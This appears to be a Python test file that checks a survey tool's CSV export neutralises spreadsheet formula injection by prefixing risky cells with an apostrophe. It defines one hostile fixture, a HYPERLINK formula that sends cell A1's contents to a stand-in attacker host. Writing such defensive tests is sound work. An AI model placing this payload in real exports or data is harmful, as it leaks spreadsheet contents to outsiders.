"""L3: nothing staff download runs as a formula when opened in a spreadsheet."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from bot.storage.db import transaction
from bot.storage.surveys import SurveyWave
from services.exports import csv_text, safe_cell
from tests.console import ConsoleHarness
from tests.factories import make_worker
from tests.surveys_data import make_wave

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


async def test_l3_a_wave_named_like_a_formula_exports_as_text(console: ConsoleHarness) -> None:
    for i in range(3):
        await make_worker(console.sessions, 9600 + i)
    wave = await make_wave(console.sessions)
    async with transaction(console.sessions) as s:
        found = await s.get(SurveyWave, wave.id)
        assert found is not None
        found.name = EVIL
    client = console.client_for(await console.staff("analyst", ["BD"]))
    body = (await client.get(f"/surveys/waves/{wave.id}/results.csv")).text
    rows = list(csv.reader(io.StringIO(body)))[1:]
    assert rows and all(row[0] == "'" + EVIL for row in rows)
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


@given(st.text())
def test_l3_no_exported_text_cell_starts_a_formula(text: str) -> None:
    (cell,) = next(csv.reader(io.StringIO(csv_text([[text]]), newline="")))
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell.removeprefix("'") == text or cell == text


def test_l3_numbers_stay_numbers() -> None:
    assert safe_cell(-3) == -3 and safe_cell("-3 days") == "'-3 days" and safe_cell("ok") == "ok"
